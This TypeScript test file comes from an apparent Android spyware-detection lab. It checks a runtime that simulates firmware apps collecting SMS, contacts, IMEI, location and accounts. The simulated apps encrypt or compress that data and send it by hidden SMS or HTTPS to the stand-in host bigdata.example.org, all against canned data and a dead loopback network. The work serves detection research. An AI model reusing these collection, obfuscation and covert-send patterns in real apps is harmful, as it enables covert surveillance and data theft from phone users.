import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createDecipheriv, type DecipherGCM } from 'node:crypto';
import { gunzipSync, inflateSync } from 'node:zlib';
import { isCanarytrapError } from '../../src/errors.ts';
import {
  instrumentationEventSchema,
  type InstrumentationEvent,
  type EventOf,
} from '../../src/instrument/events.ts';
import { labImageSchema, type EncodeStep, type LabImage } from '../../src/lab/image-schema.ts';
import { silentLogger } from '../../src/log.ts';
import { encrypt, planCipher } from '../../src/lab/behaviour/ciphers.ts';
import {
  startBehaviours,
  jobServiceName,
  type BehaviourHost,
  type ScheduledWork,
  type SmsRecord,
} from '../../src/lab/behaviour/index.ts';

/** A device with canned data, a clock the test moves, and schedulers the test fires by hand. */
class FakeHost implements BehaviourHost {
  clock = Date.UTC(2016, 9, 8, 12, 0, 0);
  events: InstrumentationEvent[] = [];
  alarms: Array<{
    pkg: string;
    tag: string;
    firstAt: number;
    repeatMs: number;
    work: ScheduledWork;
  }> = [];
  jobs: Array<{
    pkg: string;
    jobId: number;
    service: string;
    periodMs: number;
    work: ScheduledWork;
  }> = [];
  smsListeners: Array<(sms: SmsRecord) => void> = [];
  sms: SmsRecord[] = [
    { box: 'inbox', address: '+15555550142', body: 'canary sms body 7f3a', date: 1475924400000 },
    { box: 'sent', address: '+15555550199', body: 'see you at 5', date: 1475928000000 },
  ];
  now(): number {
    return this.clock;
  }
  readSms(): SmsRecord[] {
    return this.sms;
  }
  readContacts() {
    return [
      {
        name: 'Ada Canary',
        phones: ['+15555550123'],
        emails: ['ada.c@example.org'],
        note: 'met at lab',
      },
    ];
  }
  readCallLog() {
    return [{ number: '+15555550177', type: 2, date: 1475920000000, duration: 63 }];
  }
  identity() {
    return {
      imei: '490154203237518',
      imsi: '001010123456789',
      iccid: '8901010123456789012',
      phoneNumber: '+15555550100',
      serial: 'LAB0SERIAL42',
      androidId: '9774d56d682e549c',
      wifiMac: '02:00:00:44:55:66',
      accounts: ['ada.c@example.org'],
    };
  }
  location() {
    return { latitude: 54.6872, longitude: 25.2797 };
  }
  properties(): Record<string, string> {
    return {
      'ro.product.model': 'R1 HD',
      'ro.product.brand': 'BLU',
      'ro.build.fingerprint': 'BLU/R1_HD/R1_HD:6.0/MRA58K/x:user/release-keys',
      'ro.build.version.release': '6.0',
      'ro.build.version.sdk': '23',
      'ro.build.id': 'MRA58K',
    };
  }
  setAlarm(pkg: string, tag: string, firstAt: number, repeatMs: number, work: ScheduledWork): void {
    this.alarms.push({ pkg, tag, firstAt, repeatMs, work });
  }
  scheduleJob(
    pkg: string,
    jobId: number,
    service: string,
    periodMs: number,
    work: ScheduledWork,
  ): void {
    this.jobs.push({ pkg, jobId, service, periodMs, work });
  }
  onSmsReceived(listener: (sms: SmsRecord) => void): void {
    this.smsListeners.push(listener);
  }
  emit(event: InstrumentationEvent): void {
    this.events.push(instrumentationEventSchema.parse(event));
  }
  network() {
    // Nothing listens on port 9 of loopback: any network send in these tests fails fast.
    return { dnsServer: { host: '127.0.0.1', port: 9 }, httpProxy: { host: '127.0.0.1', port: 9 } };
  }
  async trustedCaCertificates(): Promise<string[]> {
    return [];
  }
  pidOf(pkg: string): number {
    return pkg === 'com.example.leaky' ? 4242 : 4343;
  }
  ofType<T extends InstrumentationEvent['type']>(type: T): Array<EventOf<T>> {
    return this.events.filter((e): e is EventOf<T> => e.type === type);
  }
}

const BUILD = {
  manufacturer: 'BLU',
  brand: 'BLU',
  model: 'R1 HD',
  device: 'R1_HD',
  product: 'R1_HD',
  release: '6.0',
  sdk: 23,
  incremental: 'BLU_R0010UU_V6.4_GENERIC.20161008',
  securityPatch: '2016-09-05',
  abi: 'x86_64',
  buildType: 'user',
};

/** An image with one app whose behaviours are given; they send by SMS unless said otherwise. */
function image(behaviours: unknown[]): LabImage {
  return labImageSchema.parse({
    version: 1,
    name: 'unit',
    description: 'unit test image',
    build: BUILD,
    apps: [
      {
        package: 'com.example.leaky',
        label: 'Leaky',
        versionName: '1',
        versionCode: 1,
        path: '/system/app/Leaky/Leaky.apk',
        behaviours,
      },
    ],
  });
}

function smsBehaviour(
  id: string,
  collect: string[],
  encode: unknown[] = [],
  extra?: Record<string, unknown>,
): unknown {
  return {
    id,
    description: id,
    trigger: { on: 'boot' },
    collect,
    encode,
    extra,
    send: { channel: 'sms', destination: '+15555550111' },
  };
}

/** Runs one behaviour and returns the bytes its hidden SMS carried. */
async function smsPayload(
  host: FakeHost,
  encode: EncodeStep[],
  collect = ['imei', 'sms'],
): Promise<Buffer> {
  const runtime = startBehaviours(
    image([smsBehaviour('b', collect, encode)]),
    host,
    silentLogger(),
  );
  const outcome = await runtime.runNow('b');
  assert.equal(outcome.ok, true, JSON.stringify(outcome));
  await runtime.stop();
  const [sent] = host.ofType('sms.send');
  assert.ok(sent, 'an sms.send event');
  return sent.body !== undefined
    ? Buffer.from(sent.body, 'utf8')
    : Buffer.from(sent.data ?? '', 'base64');
}

test('the payload holds every collected item read from the device, then the extra constants', async () => {
  const host = new FakeHost();
  const all = [
    'sms',
    'contacts',
    'call_log',
    'imei',
    'imsi',
    'iccid',
    'phone_number',
    'android_id',
    'serial',
    'wifi_mac',
    'location',
    'accounts',
    'build',
  ];
  const runtime = startBehaviours(
    image([smsBehaviour('all', all, [], { ver: '5.1', beta: false })]),
    host,
    silentLogger(),
  );
  await runtime.runNow('all');
  const [sent] = host.ofType('sms.send');
  assert.equal(sent?.destination, '+15555550111');
  const payload = JSON.parse(sent?.body ?? 'null') as Record<string, unknown>;
  assert.deepEqual(Object.keys(payload), [...all, 'ver', 'beta']);
  assert.deepEqual(
    payload['sms'],
    host.sms.map((s) => ({ address: s.address, body: s.body, date: s.date, box: s.box })),
  );
  assert.deepEqual(payload['contacts'], host.readContacts());
  assert.deepEqual(payload['call_log'], host.readCallLog());
  const id = host.identity();
  assert.equal(payload['imei'], id.imei);
  assert.equal(payload['imsi'], id.imsi);
  assert.equal(payload['iccid'], id.iccid);
  assert.equal(payload['phone_number'], id.phoneNumber);
  assert.equal(payload['android_id'], id.androidId);
  assert.equal(payload['serial'], id.serial);
  assert.equal(payload['wifi_mac'], id.wifiMac);
  assert.deepEqual(payload['location'], { lat: 54.6872, lng: 25.2797 });
  assert.deepEqual(payload['accounts'], id.accounts);
  const props = host.properties();
  assert.deepEqual(payload['build'], {
    model: props['ro.product.model'],
    brand: 'BLU',
    fingerprint: props['ro.build.fingerprint'],
    version: '6.0',
    sdk: 23,
  });
  assert.equal(payload['ver'], '5.1');
  assert.equal(payload['beta'], false);

  const reads = host.ofType('source.read');
  assert.deepEqual(
    reads.map((r) => r.source),
    [
      'content://sms',
      'content://com.android.contacts/data',
      'content://call_log/calls',
      'TelephonyManager.getDeviceId',
      'TelephonyManager.getSubscriberId',
      'TelephonyManager.getSimSerialNumber',
      'TelephonyManager.getLine1Number',
      'Settings.Secure.ANDROID_ID',
      'Build.getSerial',
      'WifiInfo.getMacAddress',
      'LocationManager.getLastKnownLocation',
      'AccountManager.getAccounts',
      'android.os.Build',
    ],
  );
  const imeiRead = reads.find((r) => r.source === 'TelephonyManager.getDeviceId');
  assert.equal(imeiRead?.value, id.imei);
  for (const event of host.events) {
    assert.equal(event.pid, 4242);
    assert.equal(event.package, 'com.example.leaky');
    assert.equal(event.t, host.clock);
  }
  assert.ok(host.ofType('sms.send').every((e) => e.source === 'lab'));
  await runtime.stop();
});

const AES_CASES: Array<{
  mode: 'ecb' | 'cbc' | 'ctr' | 'gcm';
  keyHex: string;
  ivHex?: string;
  java: string;
}> = [
  { mode: 'ecb', keyHex: '00112233445566778899aabbccddeeff', java: 'AES/ECB/PKCS5Padding' },
  {
    mode: 'cbc',
    keyHex: '000102030405060708090a0b0c0d0e0f1011121314151617',
    ivHex: 'f0e0d0c0b0a090807060504030201000',
    java: 'AES/CBC/PKCS5Padding',
  },
  {
    mode: 'ctr',
    keyHex: '603deb1015ca71be2b73aef0857d77811f352c073b6108d72d9810a30914dff4',
    ivHex: 'f0f1f2f3f4f5f6f7f8f9fafbfcfdfeff',
    java: 'AES/CTR/NoPadding',
  },
  {
    mode: 'gcm',
    keyHex: 'feffe9928665731c6d6a8f9467308308',
    ivHex: 'cafebabefacedbaddecaf888',
    java: 'AES/GCM/NoPadding',
  },
];

for (const c of AES_CASES) {
  test(`aes-${(c.keyHex.length / 2) * 8}-${c.mode} encrypts as Java would and states key, IV and plaintext`, async () => {
    const host = new FakeHost();
    const step = {
      op: 'aes',
      mode: c.mode,
      keyHex: c.keyHex,
      ...(c.ivHex ? { ivHex: c.ivHex } : {}),
    } as EncodeStep;
    const wire = await smsPayload(host, [step]);
    const key = Buffer.from(c.keyHex, 'hex');
    const iv = c.ivHex ? Buffer.from(c.ivHex, 'hex') : null;
    const name = `aes-${key.length * 8}-${c.mode}`;
    let plain: Buffer;
    if (c.mode === 'gcm') {
      const decipher = createDecipheriv(name, key, iv) as DecipherGCM;
      decipher.setAuthTag(wire.subarray(-16));
      plain = Buffer.concat([decipher.update(wire.subarray(0, -16)), decipher.final()]);
    } else {
      const decipher = createDecipheriv(name, key, iv);
      plain = Buffer.concat([decipher.update(wire), decipher.final()]);
    }
    const payload = JSON.parse(plain.toString('utf8')) as {
      imei: string;
      sms: Array<{ body: string }>;
    };
    assert.equal(payload.imei, host.identity().imei);
    assert.equal(payload.sms[0]?.body, 'canary sms body 7f3a');
    const [cipher] = host.ofType('crypto.cipher');
    assert.ok(cipher);
    assert.equal(cipher.algorithm, c.java);
    assert.equal(cipher.mode, c.mode);
    assert.equal(cipher.direction, 'encrypt');
    assert.equal(Buffer.from(cipher.key, 'base64').toString('hex'), c.keyHex);
    assert.equal(
      cipher.iv === undefined ? undefined : Buffer.from(cipher.iv, 'base64').toString('hex'),
      c.ivHex,
    );
    assert.deepEqual(Buffer.from(cipher.input, 'base64'), plain);
    assert.deepEqual(Buffer.from(cipher.output, 'base64'), wire);
  });
}

test('single DES matches the FIPS 81 vectors and names itself DES in the event', async () => {
  const keyHex = '0123456789abcdef';
  const ivHex = '1234567890abcdef';
  // The FIPS 81 appendix B examples: "Now is the time for all " under key 0123456789abcdef.
  const text = Buffer.from('Now is the time for all ');
  const ecb = planCipher({ op: 'des', mode: 'ecb', keyHex });
  const cbc = planCipher({ op: 'des', mode: 'cbc', keyHex, ivHex });
  assert.ok(typeof ecb !== 'string' && typeof cbc !== 'string');
  assert.equal(
    encrypt(ecb, text).subarray(0, 24).toString('hex'),
    '3fa40e8a984d48156a271787ab8883f9893d51ec4b563b53',
  );
  assert.equal(
    encrypt(cbc, text).subarray(0, 24).toString('hex'),
    'e5c7cdde872bf27c43e934008c389c0f683788499a7c05f6',
  );

  const host = new FakeHost();
  const wire = await smsPayload(host, [{ op: 'des', mode: 'cbc', keyHex, ivHex }]);
  const [event] = host.ofType('crypto.cipher');
  assert.equal(event?.algorithm, 'DES/CBC/PKCS5Padding');
  assert.equal(Buffer.from(event?.key ?? '', 'base64').toString('hex'), keyHex);
  assert.equal(Buffer.from(event?.iv ?? '', 'base64').toString('hex'), ivHex);
  const plain = Buffer.from(event?.input ?? '', 'base64');
  assert.equal((JSON.parse(plain.toString()) as { imei: string }).imei, host.identity().imei);
  assert.deepEqual(Buffer.from(event?.output ?? '', 'base64'), wire);
  assert.deepEqual(wire, encrypt(cbc, plain));
  assert.equal(
    wire.length,
    (Math.floor(plain.length / 8) + 1) * 8,
    'PKCS#5 padding adds 1 to 8 bytes',
  );
});

test('3DES (DESede) in CBC and ECB decrypts with node and names itself DESede', async () => {
  const keyHex = '0123456789abcdeffedcba987654321089abcdef01234567';
  for (const mode of ['cbc', 'ecb'] as const) {
    const host = new FakeHost();
    const ivHex = mode === 'cbc' ? '0001020304050607' : undefined;
    const wire = await smsPayload(host, [
      { op: '3des', mode, keyHex, ...(ivHex ? { ivHex } : {}) },
    ]);
    const decipher = createDecipheriv(
      mode === 'cbc' ? 'des-ede3-cbc' : 'des-ede3',
      Buffer.from(keyHex, 'hex'),
      ivHex ? Buffer.from(ivHex, 'hex') : null,
    );
    const plain = Buffer.concat([decipher.update(wire), decipher.final()]).toString();
    assert.equal((JSON.parse(plain) as { imei: string }).imei, host.identity().imei);
    assert.equal(
      host.ofType('crypto.cipher')[0]?.algorithm,
      `DESede/${mode.toUpperCase()}/PKCS5Padding`,
    );
  }
});

test('gzip, deflate, base64 (both alphabets) and hex chain in order, with gzip and base64 events', async () => {
  const host = new FakeHost();
  const wire = await smsPayload(host, [
    { op: 'gzip' },
    { op: 'base64', urlSafe: true },
    { op: 'hex' },
  ]);
  const base64url = Buffer.from(wire.toString(), 'hex').toString();
  assert.match(base64url, /^[A-Za-z0-9_-]+$/);
  const json = gunzipSync(Buffer.from(base64url, 'base64url')).toString();
  assert.equal((JSON.parse(json) as { imei: string }).imei, host.identity().imei);
  const [gzip] = host.ofType('encode.gzip');
  assert.equal(Buffer.from(gzip?.input ?? '', 'base64').toString(), json);
  const [b64] = host.ofType('encode.base64');
  assert.equal(b64?.direction, 'encode');
  assert.deepEqual(Buffer.from(b64?.input ?? '', 'base64'), Buffer.from(base64url, 'base64url'));
  assert.equal(Buffer.from(b64?.output ?? '', 'base64').toString(), base64url);

  const deflateHost = new FakeHost();
  const deflated = await smsPayload(deflateHost, [{ op: 'deflate' }, { op: 'base64' }]);
  assert.match(deflated.toString(), /^[A-Za-z0-9+/]+=*$/);
  const inflated = inflateSync(Buffer.from(deflated.toString(), 'base64')).toString();
  assert.equal((JSON.parse(inflated) as { imei: string }).imei, deflateHost.identity().imei);
  assert.equal(deflateHost.ofType('encode.gzip').length, 0);
});

test('triggers: boot and alarm become alarms, job a job, sms-received a listener', async () => {
  const host = new FakeHost();
  const bootTime = host.clock;
  const img = image([
    {
      ...(smsBehaviour('after-boot', ['imei']) as object),
      trigger: { on: 'boot', delaySeconds: 30 },
    },
    {
      ...(smsBehaviour('every-72h', ['imei']) as object),
      trigger: { on: 'alarm', everyHours: 72 },
    },
    {
      ...(smsBehaviour('first-soon', ['imei']) as object),
      trigger: { on: 'alarm', everyHours: 24, firstAfterHours: 1 },
    },
    {
      ...(smsBehaviour('command-poll', ['serial']) as object),
      trigger: { on: 'job', jobId: 7001, everyHours: 24 },
    },
    { ...(smsBehaviour('on-sms', ['sms']) as object), trigger: { on: 'sms-received' } },
  ]);
  const runtime = startBehaviours(img, host, silentLogger());
  const hour = 3_600_000;
  assert.deepEqual(
    host.alarms.map(({ pkg, tag, firstAt, repeatMs }) => ({ pkg, tag, firstAt, repeatMs })),
    [
      {
        pkg: 'com.example.leaky',
        tag: 'com.example.leaky.after-boot',
        firstAt: bootTime + 30_000,
        repeatMs: 0,
      },
      {
        pkg: 'com.example.leaky',
        tag: 'com.example.leaky.every-72h',
        firstAt: bootTime + 72 * hour,
        repeatMs: 72 * hour,
      },
      {
        pkg: 'com.example.leaky',
        tag: 'com.example.leaky.first-soon',
        firstAt: bootTime + hour,
        repeatMs: 24 * hour,
      },
    ],
  );
  assert.deepEqual(
    host.jobs.map(({ pkg, jobId, service, periodMs }) => ({ pkg, jobId, service, periodMs })),
    [
      {
        pkg: 'com.example.leaky',
        jobId: 7001,
        service: 'com.example.leaky/.CommandPollJobService',
        periodMs: 24 * hour,
      },
    ],
  );
  assert.equal(
    jobServiceName('com.adups.fota', 'command-poll'),
    'com.adups.fota/.CommandPollJobService',
  );
  assert.equal(host.smsListeners.length, 1);
  assert.equal(host.events.length, 0, 'nothing runs before a trigger fires');

  await host.alarms[0]?.work.run();
  await host.jobs[0]?.work.run();
  assert.deepEqual(
    host.ofType('source.read').map((r) => r.source),
    ['TelephonyManager.getDeviceId', 'Build.getSerial'],
  );
  host.smsListeners[0]?.({
    box: 'inbox',
    address: '+15555550150',
    body: 'incoming',
    date: host.clock,
  });
  await runtime.stop();
  assert.equal(
    host.ofType('sms.send').length,
    3,
    'the SMS-triggered run finished before stop resolved',
  );

  await runtime.stop();
  await host.alarms[1]?.work.run();
  assert.equal(host.ofType('sms.send').length, 3, 'work fired after stop does nothing');
  await assert.rejects(
    runtime.runNow('every-72h'),
    (e: unknown) => isCanarytrapError(e) && e.code === 'lab-behaviours-stopped',
  );
});

test('runNow names unknown and ambiguous behaviours', async () => {
  const host = new FakeHost();
  const img = image([smsBehaviour('same', ['imei'])]);
  img.apps.push({ ...structuredClone(img.apps[0]!), package: 'com.example.other' });
  const runtime = startBehaviours(img, host, silentLogger());
  await assert.rejects(
    runtime.runNow('nope'),
    (e: unknown) => isCanarytrapError(e) && e.code === 'lab-behaviour-unknown',
  );
  await assert.rejects(
    runtime.runNow('same'),
    (e: unknown) => isCanarytrapError(e) && e.code === 'lab-behaviour-ambiguous',
  );
  const outcome = await runtime.runNow('com.example.other/same');
  assert.equal(outcome.ok, true);
  assert.equal(host.ofType('sms.send')[0]?.package, 'com.example.other');
  await runtime.stop();
});

test('a send that cannot resolve fails as an outcome, logged, with no network event after the query', async () => {
  const host = new FakeHost();
  const img = image([
    {
      id: 'upload',
      description: 'x',
      trigger: { on: 'boot' },
      collect: ['imei'],
      encode: [{ op: 'base64' }],
      send: {
        channel: 'https',
        host: 'bigdata.example.org',
        path: '/up',
        carry: { as: 'form', field: 'data' },
      },
    },
  ]);
  const runtime = startBehaviours(img, host, silentLogger(), { sendTimeoutMs: 3000 });
  const outcome = await runtime.runNow('upload');
  assert.equal(outcome.ok, false);
  assert.ok(
    !outcome.ok && /lab-dns-failed|lab-send-timeout/.test(outcome.error),
    JSON.stringify(outcome),
  );
  assert.deepEqual(
    host.ofType('dns.query').map((q) => q.name),
    ['bigdata.example.org'],
  );
  assert.equal(host.ofType('net.connect').length + host.ofType('http.request').length, 0);
  await runtime.stop();
});
